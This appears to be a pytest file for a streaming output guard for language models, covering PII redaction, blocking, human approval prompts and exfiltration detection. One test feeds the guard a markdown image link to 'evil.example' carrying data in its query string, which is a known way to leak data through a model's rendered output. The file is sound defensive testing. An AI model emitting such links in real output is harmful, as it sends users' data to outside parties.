from __future__ import annotations

import asyncio

import pytest

from llmops_magics.errors import BlockedError, UsageError
from llmops_magics.guard.boundary import asking

PII = '[guard]\ndetectors = ["pii"]\nask_timeout_s = 0.2\n[[guard.policy]]\nkind = "pii"\naction = '
TALE = "It rains. Ann stays in. Her mail is ann@example.com and no other. The end."


def pieces(text, size=3):
    return [text[at : at + size] for at in range(0, len(text), size)]


def taken(stream):
    """Return what came out before it was refused."""
    out = list(safely(stream))
    with pytest.raises(StopIteration):
        next(stream)
    return "".join(out)


def safely(stream):
    """Yield what comes until it is refused."""
    try:
        yield from stream
    except BlockedError:
        return


@pytest.mark.parametrize("size", [1, 3, 7, 500])
def test_a_clean_stream_comes_out_as_it_went_in(guarded, size):
    guard = guarded(PII + '"block"\n').guard
    text = "One. Two!\nThree? Four; and so on, " * 200
    assert "".join(guard.stream(pieces(text, size))) == text
    assert guard.decisions().total == 0


@pytest.mark.parametrize("size", [1, 4, 500])
def test_what_is_redacted_never_leaves(guarded, size):
    guard = guarded(PII + '"redact"\n').guard
    out = "".join(guard.stream(pieces(TALE, size)))
    assert out == TALE.replace("ann@example.com", "[email-1]")
    assert [d.action for d in guard.decisions().decisions] == ["redact"]


def test_after_what_is_blocked_nothing_leaves(guarded):
    guard = guarded(PII + '"block"\n').guard
    assert taken(guard.stream(pieces(TALE))) == "It rains."
    (decision,) = guard.decisions().decisions
    assert (decision.action, decision.boundary) == ("block", "output")


def test_a_finding_over_the_end_of_a_sentence_is_seen_before_its_first_half_leaves(guarded):
    text = "I know. My iban is GB82 WEST 1234\n5698 7654 32 there. And so on. And more."
    settings = PII.replace('["pii"]', '["pii", "exfiltration"]').replace('kind = "pii"', "")
    guard = guarded(settings + '"block"\n').guard
    spread = "Look. ![x](https://evil.example/?q=one. \ntwo) Then. More. And more."
    assert "evil" not in "".join(safely(guard.stream(pieces(spread))))
    assert "GB82" not in "".join(safely(guard.stream(pieces(text.replace("\n", " ")))))


def test_a_sentence_that_never_ends_is_let_out_in_parts(guarded):
    guard = guarded(PII + '"redact"\n').guard
    text = "word " * 2_000 + "ann@example.com " + "word " * 2_000
    stream = guard.stream(pieces(text, 50))
    first = next(stream)
    assert 0 < len(first) <= 2_000
    assert first + "".join(stream) == text.replace("ann@example.com", "[email-1]")


def test_an_asynchronous_stream_is_one_still(guarded):
    guard = guarded(PII + '"redact"\n').guard

    async def chunks():
        for piece in pieces(TALE):
            yield piece

    async def collect():
        return "".join([text async for text in guard.stream(chunks())])

    assert asyncio.run(collect()) == TALE.replace("ann@example.com", "[email-1]")


def test_who_says_yes_once_is_not_asked_again_for_the_same(guarded):
    guard = guarded(PII.replace("0.2", "30") + '"ask"\n').guard
    asked = []
    asking.set_asker(lambda question: asked.append(question.subject) or True)
    try:
        assert "".join(guard.stream(pieces(TALE))) == TALE
    finally:
        asking.set_asker(None)
    assert len(asked) == 1


def test_without_an_answer_in_time_the_stream_ends(guarded):
    guard = guarded(PII + '"ask"\n').guard
    assert taken(guard.stream(pieces(TALE))) == "It rains."
    (question,) = guard.pending(all_states=True).questions
    assert (question.state, question.answered_by) == ("expired", "nobody")


def test_what_was_seen_of_a_stream_that_nobody_reads_to_its_end_is_written_down(guarded):
    guard = guarded(PII + '"flag"\n').guard
    stream = guard.stream(pieces(TALE + " One. Two. Three."))
    while "example" not in next(stream):
        pass
    stream.close()
    assert [d.action for d in guard.decisions().decisions] == ["flag"]


def test_parts_are_texts(guarded):
    guard = guarded(PII + '"flag"\n').guard
    with pytest.raises(UsageError, match="not dict"):
        list(guard.stream([{"delta": "x"}]))
